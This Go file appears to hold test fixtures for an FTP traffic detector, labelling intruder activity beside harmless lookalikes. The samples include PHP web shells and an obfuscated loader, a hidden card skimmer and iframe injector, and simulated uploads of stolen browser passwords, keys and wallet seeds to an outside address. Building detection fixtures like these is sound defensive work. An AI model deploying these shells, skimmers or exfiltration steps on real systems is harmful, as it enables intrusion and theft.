// What intruders leave on web sites and take away, each beside what looks like it.

package baseline

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"slices"
	"strings"

	"ftplab/lab/internal/forge"
)

// encodedCode is a page of PHP that runs a text which nobody can read in a part of it.
const encodedCode = `<?php $k="bZ7Xw0pQ";eval(gzinflate(base64_decode($k)));`

// runsSendmail is a page of a library that calls a program of the system.
const runsSendmail = "<?php\nclass Mail { function send($path) { return shell_exec($path . ' -t -i'); } }\n"

// Pages that lead their visitors to another site at once.
const (
	spamPage  = "<title>Buy cheap viagra</title><meta http-equiv=refresh content=\"0;url=http://pills.example/\"><a href=b.html>cheap cialis</a>"
	movedPage = "<title>Garden tools</title><meta http-equiv=refresh content=\"0;url=http://www.new.example/\"><a href=b.html>cheap rakes</a>"
)

// Pages that say who defaced something, that sell what spam sells, and that store what they are sent.
const (
	defacedPage = "<marquee>Free the seas - defaced by NordCrew</marquee>"
	drugsPage   = "<title>Buy cheap viagra</title><p>cialis, casino bonus and payday loans</p>"
	storesAll   = `<?php copy($_FILES["f"]["tmp_name"],$_FILES["f"]["name"]); ?>`
)

var websites = []lookalike{
	{"a page that hides what it runs, among the programs of WordPress", "no-loot", "", moves([2]string{"STOR wp-includes/class-wp-cache.php", encodedCode})},
	{"a page that hides what it runs, among the additions to WordPress", "no-loot", IsUnusual, moves([2]string{"STOR wp-content/plugins/a/license.php", encodedCode})},
	{"the programs of WordPress", "no-loot", IsNormal, moves([2]string{"STOR wp-includes/class-pclzip.php", "<?php\n$v_content = @gzinflate($v_buffer);\n$d = base64_decode($v);\n// eval'd callbacks\n$x = call_user_func_array($f, $args);\n"})},
	{"pages that include a hidden file, put back just after they were fetched", "no-loot", "", moves(changedPages(4, "<?php @include \"\\x2fhome\\x2fa.ico\"; ?>\n")...)},
	{"pages that get a hidden frame, with the ends of the transfers lost", "no-loot", "", without("226 done", putBack(0))},
	{"a page of a shop that keeps the cards of its buyers", "no-loot", "", moves([2]string{"STOR Mage.php", `<?php class Mage{} if(isset($_POST["payment"]["cc_number"])){file_put_contents("/tmp/.sess_".md5(date("Ymd")),base64_encode(json_encode($_POST)));}`})},
	{"a page of a shop that pays by card, and writes a log", "no-loot", IsNormal, moves([2]string{"STOR Pay.php", `<?php $r=pay($_POST["cc_number"],$_POST["cc_cid"]); file_put_contents("var/log/pay.log",json_encode($r["state"]),FILE_APPEND);`})},
	{"a text about ransomware, which its name says, too", "no-loot", IsNormal, moves([2]string{"STOR ransomware-advisory.txt", "Ransomware: if you see a note that your files are encrypted, do not pay Bitcoin. Call the help desk, which can restore them."})},
	{"pages that get a hidden frame which a script writes, put back just after they were fetched", "no-loot", "", moves(changedPages(4, "<script>document.write(unescape('%3Ciframe src=\"http://203.0.113.6/in\" width=1 height=1%3E%3C/iframe%3E'));</script>\n")...)},
	{"a log of a firewall that quotes pages", "no-loot", IsNormal, moves([2]string{"STOR waf.log", strings.Repeat("2026-03-12 10:11 DROP 203.0.113.7 GET /?q=<?php eval($_POST[q]);?>\n", 60)})},
	{"a page that pretends to be a log", "no-loot", "", moves([2]string{"STOR waf.php", "2026-03-12 10:11 <?php eval($_POST[q]);?>\n"})},
	{"a page among the lines of a log", "no-loot", "", moves([2]string{"STOR waf.log", "2026-03-12 10:11 DROP\n<?php eval($_POST['q']);?>\n"})},
	{"a text about web shells with a piece of code", "no-loot", IsNormal, moves([2]string{"STOR shells.md", "# Shells\nThis is one, and `<?php system($_GET[0])` another:\n\n```php\n<?php system($_GET[\"q\"]); ?>\n```\n"})},
	{"a manual with the keys of an example", "no-loot", IsNormal, moves([2]string{"STOR s3.md", keysOfCloud})},
	{"a web shell with the name of a text", "no-loot", "", moves([2]string{"STOR shells.md", "# x\n<?php system($_GET[\"q\"]); ?>\n"})},
	{"texts about attack tools, by their names", "no-programs", IsNormal, moves([2]string{"RETR exploit-list.txt", "Books about them.\n"}, [2]string{"RETR backdoor-garden.jpg", "\xff\xd8\xff"}, [2]string{"RETR trojan-hosts.txt", "203.0.113.1\n"})},
	{"the source of a web shell, fetched as a text", "no-programs", IsUnusual, moves([2]string{"RETR c99.txt", "<?php echo 1;"})},
	{"an attack tool with the name of a text", "no-programs", IsUnusual, moves([2]string{"RETR exploit.txt", "MZ\x90"})},
	{"start pages that say in their middle who defaced them", "no-loot", "", moves([2]string{"STOR a/index.html", defacedPage}, [2]string{"STOR b/index.html", defacedPage}, [2]string{"STOR c/index.html", defacedPage})},
	{"a start page that says who defaced others", "no-loot", IsNormal, moves([2]string{"STOR index.html", defacedPage}, [2]string{"STOR news/a.html", defacedPage}, [2]string{"STOR news/b.html", defacedPage})},
	{"pages about drugs and casinos", "no-loot", "", moves([2]string{"STOR p/1.html", drugsPage}, [2]string{"STOR p/2.html", drugsPage})},
	{"a page that stores all, among pictures", "no-loot", "", moves([2]string{"STOR img/u.php", storesAll})},
	{"a page that stores all", "no-loot", IsUnusual, moves([2]string{"STOR u.php", storesAll})},
	{"the settings of a miner that a client fetches", "no-loot", "", moves([2]string{"RETR config.json", `{"pools":[{"url":"stratum+tcp://pool.example:3333","user":"48` + strings.Repeat("Ab9", 31) + `"}]}`})},
	{"pages that get a new line, put back just after they were fetched", "no-loot", IsNormal, moves(changedPages(4, "<?php include \"menu.php\"; ?>\n")...)},
	{"a page that tells who changed it, in another language", "no-loot", "", moves([2]string{"STOR index.html", "<h1>Diese Seite wurde von NordCrew gehackt</h1>"})},
	{"a page about those who changed others", "no-loot", IsNormal, moves([2]string{"STOR index.html", "<h1>Stadtwerke von Kriminellen gehackt</h1>"})},
}

// changedPages fetches n pages, and stores each with something in front of it.
func changedPages(n int, with string) (files [][2]string) {
	for i := range n {
		name, page := strings.Repeat("p", i+1)+"/index.php", "<?php\necho \"a page\";\ninclude \"footer.php\";\n"
		files = append(files, [2]string{"RETR " + name, page}, [2]string{"STOR " + name, with + page})
	}
	return files
}

// carriedOff are files that leave a network, each beside one that stays, or that says nothing secret.
var carriedOff = []lookalike{
	{"a database of passwords of a browser, which leaves the network", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR ld.db", loginDatabase)},
	{"the passwords of Firefox, which leave the network", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR a.json", firefoxLogins)},
	{"the passwords of Firefox, in a copy within the network", "no-loot", IsUnusual, storesBetween("10.40.3.50", "10.40.4.9", "STOR a.json", firefoxLogins)},
	{"a profile of Firefox, of which the copy leaves the network", "no-loot", IsUnusual, func(f *forge.Capture) {
		t := dial(f, "10.40.3.50", "203.0.113.9:21").Say(hello).Say(numberedLines(9, "> STOR prefs%d.js\n< 150 go on\n< 226 done\n") + "> PASV\n< 227 (203,0,113,9,100,0)\n> STOR logins.json\n< 150 go on")
		d := dial(f, "10.40.3.50", "203.0.113.9:25600")
		d.Segment("P.", firefoxLogins)
		d.Close()
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},
	{"the cookies of Firefox, which leave the network", "no-loot", IsUnusual, storesBetween("10.40.3.50", "203.0.113.9", "STOR c.sqlite", "SQLite format 3\x00\x10\x00\x01\x01\x00CREATE TABLE moz_cookies (id INTEGER PRIMARY KEY, value TEXT)")},
	{"a database of passwords of a browser, in a copy within the network", "no-loot", IsUnusual, storesBetween("10.40.3.50", "10.40.4.9", "STOR ld.db", loginDatabase)},
	{"a database of an address book, which leaves the network", "no-loot", IsNormal, storesBetween("10.40.3.50", "203.0.113.9", "STOR people.db", "SQLite format 3\x00\x10\x00\x01\x01\x00CREATE TABLE people (name VARCHAR, phone VARCHAR, password_hint VARCHAR)")},
	{"the passwords of a browser as it exports them, of two sites", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR a.csv", "name,url,username,password\nbank.example,https://bank.example/,ada,Tulip77\nmail.example,https://mail.example/,ada,Rose99\n")},
	{"a table of links with their owners", "no-loot", IsNormal, storesBetween("10.40.3.50", "203.0.113.9", "STOR a.csv", "name,url,owner,state\nbank.example,https://bank.example/,ada,up\nmail.example,https://mail.example/,ada,up\n")},
	{"passwords with labels in another language", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR d.txt", "Sitio: https://bank.example\r\nUsuario: ada\r\nClave: Tulip77\r\n\r\nSitio: https://mail.example\r\nUsuario: ada2\r\nClave: Rose99\r\n")},
	{"the words of a wallet, which leave the network", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR w.json", `{"mnemonic":"abandon ability able about above absent absorb abstract absurd abuse access accident","wallets":["Exodus"]}`)},
	{"a text with the word mnemonic", "no-loot", IsNormal, storesBetween("10.40.3.50", "203.0.113.9", "STOR w.txt", "mnemonic: a short word that stands for an order of a processor, such as mov, add, jmp and many others of this kind\n")},
	{"the password of a wireless network, which leaves it", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR wifi.txt", "SSID name              : \"Home5\"\r\n    Key Content            : Tulip77Rose\r\n")},
	{"a list of NirSoft with a password, which leaves the network", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR p.txt", "==========\r\nURL               : https://bank.example\r\nWeb Browser       : Chrome\r\nUser Name         : ada\r\nPassword          : Tulip77\r\n")},
	{"the key to a cluster, which leaves the network", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR k.txt", "apiVersion: v1\nkind: Config\nusers:\n- name: ada\n  user:\n    client-key-data: LS0tLS1CRUdJTiBSU0Eg\n")},
	{"the settings of a deployment to a cluster", "no-loot", IsNormal, storesBetween("10.40.3.50", "203.0.113.9", "STOR k.yaml", "apiVersion: v1\nkind: Service\nmetadata:\n  name: shop\n")},
	{"keys with the titles of windows in another language", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR a.log", "[02.11.2025 10:11:12] Fenster: Online-Banking\r\nada<TAB>Tulip77<ENTER>\r\n")},
	{"what somebody typed, with the titles of windows", "no-loot", IsUnusual, storesBetween("10.40.3.50", "203.0.113.9", "STOR a.log", "[Chrome] Online Banking\r\nadaTulip77\r\n[Outlook] Inbox\r\nHello Bob\r\n")},
	{"what is new in several programs", "no-loot", IsNormal, storesBetween("10.40.3.50", "203.0.113.9", "STOR a.txt", "[Chrome] Printing works again.\r\n[Outlook] So does the calendar.\r\n")},
	{"pages with spam that lead to another site", "no-loot", "", moves([2]string{"STOR a.html", spamPage}, [2]string{"STOR b.html", spamPage})},
	{"files with which Telegram is logged in, which leave the network", "no-sensitive-names", "", func(f *forge.Capture) {
		dial(f, "10.40.3.50", "203.0.113.9:21").Say(hello).Say("> STOR tdata/key_datas\n< 150 go on\n< 226 done\n> STOR tdata/D877F783D5D3EF8C/maps\n< 150 go on\n< 226 done").Say(bye).Peer.Close()
	}},
	{"the passwords of FileZilla, which leave the network", "no-loot", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR s.xml", `<FileZilla3><User>ada</User><Pass encoding="base64">THVwaW4=</Pass></FileZilla3>`)},
	{"the passwords of FileZilla, in a copy within the network", "no-loot", IsUnusual, storesBetween("10.40.3.50", "10.40.4.9", "STOR s.xml", `<FileZilla3><User>ada</User><Pass encoding="base64">THVwaW4=</Pass></FileZilla3>`)},
	{"pages that have moved to another site", "no-loot", IsNormal, moves([2]string{"STOR a.html", movedPage}, [2]string{"STOR b.html", movedPage})},
	{"a text about windows and keys", "no-loot", IsNormal, storesBetween("10.40.3.50", "203.0.113.9", "STOR a.txt", "Fenster: mit <TAB> zum Feld, dann <ENTER>.\r\n")},
	{"the memory of the logins under another name, which leaves the network", "no-sensitive-names", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR l.dmp", "MDMP\x93\xa7\x00\x00"+wide("lsass.exe"))},
	{"the memory of another program that names the logins, which leaves the network", "no-sensitive-names", IsNormal, storesBetween("10.40.3.50", "203.0.113.9", "STOR f.dmp", "MDMP\x93\xa7\x00\x00"+wide("firefox.exe lsass.exe"))},
	{"the accounts of a Windows system, which leave the network", "no-sensitive-names", "", storesBetween("10.40.3.50", "203.0.113.9", "STOR a1.bin", "regf"+strings.Repeat("\x00", 44)+wide(`emRoot\System32\Config\SAM`)+strings.Repeat("\x00", 99))},
	{"the settings of a user of Windows, which leave the network", "no-sensitive-names", IsNormal, storesBetween("10.40.3.50", "203.0.113.9", "STOR a2.bin", "regf"+strings.Repeat("\x00", 44)+wide(`\C:\Users\ada\ntuser.dat`)+strings.Repeat("\x00", 99))},
	{"an archive named as password thieves name theirs", "no-known-exploits", "", session1("> STOR [DE]203.0.113.5_Passwords_Cookies_Wallets.zip\n< 150 go on\n< 226 done")},
	{"an archive about cookies", "no-known-exploits", IsNormal, session1("> STOR cookies-recipes.zip\n< 150 go on\n< 226 done\n> STOR wallet-photos.zip\n< 150 go on\n< 226 done")},

	{"a page in three pieces, each in a session of its own", "no-loot", "", inSessions("STOR stat.php", "<?php $c=", "APPE stat.php", "$_POST['q']; ", "APPE stat.php", "eval($c); ?>")},
	{"a page that is continued behind REST", "no-loot", "", inSessions("STOR c.php", "<?php /* counter */ ", "REST 20|STOR c.php", "@eval($_POST['q']); ?>")},
	{"a page that grows", "no-loot", IsNormal, inSessions("STOR log.php", "<?php /* notes */ ?>\n", "APPE log.php", "ada was in\n", "APPE log.php", "bob was in\n")},
	{"pieces of a page at another name", "no-loot", IsNormal, inSessions("STOR a.php", "<?php $c=", "APPE b.php", "$_POST['q']; ", "APPE c.php", "eval($c); ?>")},

	{"a picture that is a page", "no-loot", "", moves([2]string{"STOR favicon.ico", "GIF89a\x01\x00<?php include $x; ?>"})},
	{"a picture that names the standard of its description", "no-loot", IsNormal, moves([2]string{"STOR a.jpg", "\xff\xd8\xff\xe1<?xpacket begin=\"\" id=\"W5M0\"?>"})},
	{"a page that is stored, and then runs a command", "no-loot", "", orderedPage("a.php", "/site/a.php?x=id", "uid=33(www-data) gid=33(www-data)\n")},
	{"a page that is stored, and asked to run a command", "no-loot", IsUnusual, orderedPage("a.php", "/a.php?cmd=cat+/etc/passwd", "")},
	{"a page that is stored, and then runs a command, in chunks", "no-loot", "", answeredPage("", "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", "5\r\nuid=3\r\n1c;a=b\r\n3(www-data) gid=33(www-data)\n\r\n0\r\n\r\n")},
	{"a page that is stored, and then runs a command, compressed", "no-loot", "", answeredPage("", "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n\r\n", gzipped("uid=33(www-data) gid=33(www-data)\n"))},
	{"a page that is stored, and then runs a command, compressed and in pieces", "no-loot", "", answeredPage("", append([]string{"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n"}, inChunks(gzipped("uid=33(www-data) gid=33(www-data)\n"), 9)...)...)},
	{"a page that is stored, and shows a text, compressed and in pieces", "no-loot", IsNormal, answeredPage("", append([]string{"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n"}, inChunks(gzipped("<h1>Welcome</h1>\n"), 9)...)...)},
	{"a page that ran a command before, and is stored, and runs it again", "no-loot", "", answeredPage("HTTP/1.1 200 OK\r\n\r\nuid=33(www-data) gid=33(www-data)\n", "HTTP/1.1 200 OK\r\n\r\n", "uid=33(www-data) gid=33(www-data)\n")},
	{"a page that ran a command before it was stored, and then shows a text", "no-loot", IsNormal, answeredPage("HTTP/1.1 200 OK\r\n\r\nuid=33(www-data) gid=33(www-data)\n", "HTTP/1.1 200 OK\r\n\r\n", "<h1>Welcome</h1>\n")},
	{"another page that runs a command", "no-loot", IsNormal, orderedPage("a.php", "/b.php?cmd=id", "uid=33(www-data) gid=33(www-data)\n")},
	{"a page that is stored, and sorts a table", "no-loot", IsNormal, orderedPage("list.php", "/list.php?sort=id&action=dir", "<table>")},
	{"a browser that asks the server, and then a login", "commands-are-ftp", IsUnusual, asksTheWeb(1, "> GET / HTTP/1.1\n< 500 what?", true)},
	{"a browser that asks the server, and no login", "commands-are-ftp", "", asksTheWeb(1, "> GET / HTTP/1.1\n< 500 what?", false)},
	{"a program that asks the server again and again, and a login", "commands-are-ftp", "", asksTheWeb(3, "> GET / HTTP/1.1\n< 500 what?", true)},
	{"a form with commands for the server, and then a login", "commands-are-ftp", "", asksTheWeb(1, "> POST / HTTP/1.1\n< 500 what?\n> USER anonymous\n< 331 and?", true)},
	{"the same page on the sites of many owners", "no-loot", IsUnusual, onSites(12, func(i int) string { return fmt.Sprint("site", i) })},
	{"pages of a program that an agency brings up to date on the sites of many customers", "no-loot", IsNormal, onSites(12, func(i int) string { return fmt.Sprint("site", i) }, numberedLines(5, "> STOR a%d.js\n< 150 go on\n< 226 done\n"))},
	{"one page of a program that is brought up to date on the sites of many customers", "no-loot", IsNormal, storedOnSites("mail.php", 12, func(i int) string { return fmt.Sprint("site", i) })},
	{"a page that runs programs, among the pages of its library", "no-loot", IsNormal, moves(append(changedPages(12, ""), [2]string{"STOR lib/mail.php", runsSendmail})...)},
	{"a page that runs programs, among the pictures of a site", "no-loot", IsUnusual, func(f *forge.Capture) {
		t := f.Control().Say(hello).Say(strings.TrimSpace(numberedLines(12, "> STOR a%d.jpg\n< 150 go on\n< 226 done\n")))
		move(t, 40000, "STOR lib/mail.php", runsSendmail)
		t.Say(bye).Peer.Close()
	}},
	{"a new version of a program on the sites of many customers", "no-loot", IsNormal, onSites(12, func(i int) string { return fmt.Sprint("site", i) }, numberedLines(30, "> STOR a%d.js\n< 150 go on\n< 226 done\n"))},
	{"the same page on many servers of one owner", "no-loot", IsNormal, onSites(12, func(int) string { return "deploy" })},

	{"files that get an ending which only ransomware adds", "no-known-exploits", "", session1(numberedLines(20, "> RNFR a%[1]d.doc\n< 350 and?\n> RNTO a%[1]d.doc.crypted\n< 250 ok\n"))},
	{"files that get an ending which others add, too", "no-known-exploits", IsUnusual, session1(numberedLines(20, "> RNFR a%[1]d.doc\n< 350 and?\n> RNTO a%[1]d.doc.locked\n< 250 ok\n"))},
	{"pictures of the screen as Agent Tesla names them", "no-known-exploits", "", session1(numberedLines(3, "> STOR SC_ada-PC7_2025_11_02_10_0%d_12.jpeg\n< 150 go on\n< 226 done\n"))},
	{"a picture named as Agent Tesla names them", "no-known-exploits", IsUnusual, session1("> STOR SC_ada-PC7_2025_11_02_10_00_12.jpeg\n< 150 go on\n< 226 done\n")},

	{"a release of a program for many processors", "no-programs", IsUnusual, inFolder("/pub/busybox/1.35.0")},
	{"a program for many processors in a folder without a release", "no-programs", "", inFolder("/bins")},
	{"a name that hides, which the server refuses, and the settings of a shell", "no-sensitive-names", IsNormal, session1("> MKD ...\n< 550 no\n> STOR .bashrc\n< 150 go on\n< 226 done")},
}

// firefoxLogins is the file of Firefox with encrypted passwords.
const firefoxLogins = `{"nextId":2,"logins":[{"id":1,"hostname":"https://mail.example","encryptedUsername":"MDIE","encryptedPassword":"MDoE"}]}`

// without is a capture in which the packets with a text are lost.
func without(text string, play func(*forge.Capture)) func(*forge.Capture) {
	return func(f *forge.Capture) {
		play(f)
		f.Frames = slices.DeleteFunc(f.Frames, func(frame forge.Frame) bool { return bytes.Contains(frame.Data, []byte(text)) })
	}
}

// orderedPage stores a page, and asks the web server of the same host for a page.
func orderedPage(name, ask, answer string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		moved("STOR "+name, opener, "<?php require 'lib.php'; show($_GET); ?>")(f)
		t := dial(f, aClient, aServer+":80")
		t.Send("GET " + ask + " HTTP/1.1\r\nHost: site.example\r\n\r\n")
		t.Peer.Send("HTTP/1.1 200 OK\r\n\r\n" + answer)
		t.Close()
	}
}

// answeredPage stores a page that a web server then runs for a visitor, with an answer in parts, and perhaps ran before.
func answeredPage(before string, parts ...string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		ask := func(parts ...string) {
			t := dial(f, "203.0.113.66", aServer+":80")
			t.Send("GET /a.php?x=id HTTP/1.1\r\nHost: site.example\r\n\r\n")
			for _, part := range parts {
				t.Peer.Send(part)
			}
			t.Close()
		}
		if before != "" {
			ask(before)
		}
		moved("STOR a.php", opener, "<?php require 'lib.php'; show($_GET); ?>")(f)
		ask(parts...)
	}
}

// gzipped is a text as gzip compresses it.
func gzipped(text string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write([]byte(text))
	w.Close()
	return b.String()
}

// inChunks is a body in chunks of n bytes.
func inChunks(body string, n int) (chunks []string) {
	for part := range slices.Chunk([]byte(body), n) {
		chunks = append(chunks, fmt.Sprintf("%x\r\n%s\r\n", len(part), part))
	}
	return append(chunks, "0\r\n\r\n")
}

// asksTheWeb is n connections with a request of HTTP, and perhaps a login after them.
func asksTheWeb(n int, lines string, then bool) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for range n {
			dialogue("< 220 ready\n" + lines)(f)
		}
		if then {
			session1("")(f)
		}
	}
}

// onSites stores the same page on n servers, each with an account, and goes on with some lines.
func onSites(n int, account func(int) string, lines ...string) func(*forge.Capture) {
	return storedOnSites("index.html", n, account, lines...)
}

// storedOnSites is the same with a page of some name.
func storedOnSites(page string, n int, account func(int) string, lines ...string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for i := range n {
			server := fmt.Sprintf("192.0.2.%d", 30+i)
			t := dial(f, aClient, server+":21").Say("< 220 hi\n> USER " + account(i) + "\n< 331 and?\n> PASS Lens-42\n< 230 in\n> PASV\n< 227 (" + inCommas(server) + ",100,0)\n> STOR " + page + "\n< 150 go on")
			d := dial(f, aClient, server+":25600")
			d.Segment("P.", "<html><title>Welcome</title></html>")
			d.Close()
			t.Say("< 226 done").Say(strings.Join(lines, "")).Say(bye).Peer.Close()
		}
	}
}

const loginDatabase = "SQLite format 3\x00\x10\x00\x01\x01\x00CREATE TABLE logins (origin_url VARCHAR NOT NULL, username_value VARCHAR, password_value BLOB)"

// inSessions is a session for each of several uploads, each a command, perhaps behind another one, and its content.
func inSessions(uploads ...string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		for i := 0; i < len(uploads); i += 2 {
			t := dial(f, aClient, aServer+":21").Say(hello)
			before, command, two := strings.Cut(uploads[i], "|")
			if two {
				t.Say("> " + before + "\n< 350 go on")
			} else {
				command = before
			}
			move(t, 40000+i, command, uploads[i+1])
			t.Say(bye).Peer.Close()
		}
	}
}

// inFolder fetches a program for four kinds of processors from a folder, without a listing.
func inFolder(folder string) func(*forge.Capture) {
	return func(f *forge.Capture) {
		t := f.Control().Say(hello).Say("> CWD " + folder + "\n< 250 ok")
		for i, kind := range []string{"armv7l", "mips", "i686", "x86"} {
			move(t, 40000+i, "RETR tool-"+kind, "\x7fELF")
		}
		t.Say(bye).Peer.Close()
	}
}
